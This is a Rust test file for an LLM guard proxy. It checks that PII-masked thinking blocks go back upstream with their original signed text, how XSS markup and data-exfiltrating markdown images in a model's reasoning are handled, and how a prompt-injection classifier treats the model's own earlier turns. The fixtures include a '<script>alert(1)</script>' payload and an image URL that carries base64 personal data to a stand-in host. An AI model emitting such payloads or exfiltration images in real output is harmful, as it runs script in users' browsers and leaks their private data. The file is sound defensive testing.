//! Anthropic thinking blocks carry a signature over their exact text, and
//! the API refuses a history whose thinking does not match it. A thinking
//! block the output guards changed (PII masked) reaches the client changed;
//! when the client sends it back, the proxy forwards the model's own text.

use super::support::*;

const THOUGHT: &str = "The user is jane.roe@example.com,| so I will| write to them.";

/// The client's view of the answer's thinking block: text and signature.
async fn first_turn(p: &menshen_proxy::app::Running, behavior: &str) -> (String, String) {
    let body =
        serde_json::json!({"model":"claude","max_tokens":64,"stream":behavior.starts_with("sse"),
        "messages":[{"role":"user","content":"Plan the reply"}]})
        .to_string();
    let r = post(
        p.addr,
        "/v1/messages",
        &[("x-test-behavior", behavior), ("x-test-reply", THOUGHT)],
        &body,
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text());
    if !behavior.starts_with("sse") {
        let v = r.json();
        let b = &v["content"][0];
        return (
            b["thinking"].as_str().unwrap().to_owned(),
            b["signature"].as_str().unwrap().to_owned(),
        );
    }
    let (mut text, mut sig) = (String::new(), String::new());
    for line in r.text().lines() {
        let Some(data) = line.strip_prefix("data: ") else {
            continue;
        };
        let v: serde_json::Value = serde_json::from_str(data).unwrap();
        match v["delta"]["type"].as_str() {
            Some("thinking_delta") => text.push_str(v["delta"]["thinking"].as_str().unwrap()),
            Some("signature_delta") => sig.push_str(v["delta"]["signature"].as_str().unwrap()),
            _ => {}
        }
    }
    (text, sig)
}

#[tokio::test]
async fn a_thinking_block_the_guards_changed_goes_back_upstream_as_the_model_wrote_it() {
    let original = THOUGHT.replace('|', "");
    for behavior in ["anthropic-thinking", "sse-anthropic-thinking"] {
        let up = Upstream::start().await;
        let p = proxy(BASIC, &up).await;
        let (shown, signature) = first_turn(&p, behavior).await;
        assert!(
            !shown.contains("jane.roe@example.com"),
            "{behavior}: {shown}"
        );
        assert!(shown.contains("write to them."), "{behavior}: {shown}");
        assert_eq!(signature, THINKING_SIGNATURE, "{behavior}");

        // The next turn carries the block exactly as the client got it.
        let next = serde_json::json!({"model":"claude","max_tokens":64,"messages":[
            {"role":"user","content":"Plan the reply"},
            {"role":"assistant","content":[
                {"type":"thinking","thinking":shown,"signature":signature},
                {"type":"text","text":"Done."}]},
            {"role":"user","content":"Go on"}]})
        .to_string();
        let r = post(p.addr, "/v1/messages", &[], &next).await;
        assert_eq!(r.status, 200, "{behavior}: {}", r.text());
        let seen = up.requests().await;
        let sent: serde_json::Value = serde_json::from_slice(&seen[1].body).unwrap();
        assert_eq!(
            sent["messages"][1]["content"][0]["thinking"], original,
            "{behavior}: the signed text goes back"
        );
        assert_eq!(sent["messages"][1]["content"][1]["text"], "Done.");
        assert_eq!(sent["messages"][2]["content"], "Go on");

        // A block this proxy never changed is forwarded as sent.
        let other = next.replace(THINKING_SIGNATURE, "another-signature");
        let r = post(p.addr, "/v1/messages", &[], &other).await;
        assert_eq!(r.status, 200, "{}", r.text());
        let seen = up.requests().await;
        assert_eq!(seen[2].body, other.as_bytes(), "{behavior}");
    }
}

/// An Anthropic answer to `question` whose thinking block is `thought`
/// (pieces split by `|` when `behavior` streams).
async fn thinking_answer(
    p: &menshen_proxy::app::Running,
    behavior: &str,
    thought: &str,
    question: &str,
) -> Reply {
    let body =
        serde_json::json!({"model":"claude","max_tokens":64,"stream":behavior.starts_with("sse"),
        "messages":[{"role":"user","content":question}]})
        .to_string();
    post(
        p.addr,
        "/v1/messages",
        &[("x-test-behavior", behavior), ("x-test-reply", thought)],
        &body,
    )
    .await
}

/// `rules.output` is about what runs when an answer is rendered: markup in
/// the model's reasoning is not served to a browser, so it does not
/// withhold the answer; the same markup in the answer does.
#[tokio::test]
async fn markup_in_reasoning_does_not_withhold_the_answer() {
    let up = Upstream::start().await;
    let p = proxy(BASIC, &up).await;
    let thought = "The user asks about XSS;| <script>alert(1)</script> is| the classic payload.";
    for behavior in ["anthropic-thinking", "sse-anthropic-thinking"] {
        let r = thinking_answer(&p, behavior, thought, "What is a classic XSS payload?").await;
        assert_eq!(r.status, 200, "{behavior}: {}", r.text());
        assert!(
            !r.text().contains("\"type\":\"error\""),
            "{behavior}: {}",
            r.text()
        );
        assert!(r.text().contains("Done."), "{behavior}: {}", r.text());
    }
    // The same markup as the answer itself is withheld.
    let body = serde_json::json!({"model":"claude","max_tokens":64,
        "messages":[{"role":"user","content":"What is a classic XSS payload?"}]})
    .to_string();
    let r = post(
        p.addr,
        "/v1/messages",
        &[("x-test-reply", "<script>alert(1)</script>")],
        &body,
    )
    .await;
    assert_eq!(r.status, 403, "{}", r.text());
}

/// An image is different: UIs that show a thinking block render it as
/// markdown and fetch its images, so an image that carries data away is
/// stopped in the reasoning too.
#[tokio::test]
async fn an_exfiltration_image_in_reasoning_is_stopped() {
    let up = Upstream::start().await;
    let p = proxy(BASIC, &up).await;
    // "Jane Roe asked about her divorce lawyer", in base64, in the path.
    let thought = "Noted.| ![](https://t.example/px/SmFuZSBSb2UgYXNrZWQgYWJvd|XQgaGVyIGRpdm9yY2UgbGF3eWVy.gif) Now the answer.";
    for behavior in ["anthropic-thinking", "sse-anthropic-thinking"] {
        let r = thinking_answer(&p, behavior, thought, "Summarise my notes").await;
        let text = r.text();
        assert!(!text.contains("t.example"), "{behavior}: {text}");
        assert!(text.contains("blocked_by_policy"), "{behavior}: {text}");
    }
}

/// With the real injection model: a thinking model's earlier turn, sent
/// back as history, is first-person planning that reads like an instruction
/// to the classifier. It is not classified on requests (the rules still
/// read it), so turn two of such a conversation goes through; with
/// `scan_assistant = true` the same turn is classified and blocked.
#[tokio::test]
async fn the_models_earlier_turns_are_not_classified_as_injections() {
    let Some(lib) = onnx_library() else { return };
    let onnx = |scan_assistant: bool| {
        format!(
            "{BASIC}\n[guards.onnx]\noptional = false\nlibrary = \"{}\"\nmodels_dir = \"{}\"\nscan_assistant = {scan_assistant}\n",
            lib.display(),
            repo_root().join("models/artifacts").display()
        )
    };
    let plan = "The user wants a short poem about autumn, so I will write four lines.";
    let turn_two = serde_json::json!({"model":"claude","max_tokens":64,"messages":[
        {"role":"user","content":"Write a short poem about autumn"},
        {"role":"assistant","content":[
            {"type":"thinking","thinking":plan,"signature":"sig-1"},
            {"type":"text","text":plan}]},
        {"role":"user","content":"Thanks! Now one about winter"}]})
    .to_string();
    let up = Upstream::start().await;
    let p = proxy(&onnx(false), &up).await;
    let r = post(p.addr, "/v1/messages", &[], &turn_two).await;
    assert_eq!(r.status, 200, "{}", r.text());
    // The same plan written by the user is still classified.
    let from_user = serde_json::json!({"model":"claude","max_tokens":64,
        "messages":[{"role":"user","content":plan}]})
    .to_string();
    let r = post(p.addr, "/v1/messages", &[], &from_user).await;
    assert_eq!(r.status, 403, "the model does flag it: {}", r.text());

    let p = proxy(&onnx(true), &up).await;
    let r = post(p.addr, "/v1/messages", &[], &turn_two).await;
    assert_eq!(r.status, 403, "{}", r.text());
}
